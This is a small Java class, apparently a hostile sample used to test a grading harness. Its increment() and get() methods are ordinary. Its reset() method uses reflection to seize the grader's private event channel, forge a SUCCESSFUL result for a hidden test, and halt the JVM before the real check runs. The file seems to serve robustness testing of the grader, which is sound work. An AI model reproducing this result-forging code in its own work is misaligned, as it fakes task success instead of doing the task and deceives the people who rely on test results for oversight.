package io.pdslab.labs.demo;

/** Correct except reset(), which is hostile: reaches into the runner to report its own success */
public class Counter {
  private int value;

  public void increment() {
    value++;
  }

  public int get() {
    return value;
  }

  public static long stepsFor(int n) {
    return n;
  }

  public void reset() throws Exception {
    Class<?> channel = Class.forName("io.pdslab.grader.runner.EventChannel");
    java.lang.reflect.Method open = channel.getDeclaredMethod("takeOverStdout", byte[].class);
    open.setAccessible(true);
    Object forged = open.invoke(null, (Object) new byte[32]);
    java.lang.reflect.Method send = channel.getDeclaredMethod("send", String.class, Object[].class);
    send.setAccessible(true);
    send.invoke(forged, "finish", new Object[] {"id", "io.pdslab.labs.demo.CounterHiddenTest#resets",
        "status", "SUCCESSFUL", "name", "resets()"});
    send.invoke(forged, "done", new Object[0]);
    Runtime.getRuntime().halt(0);
  }
}
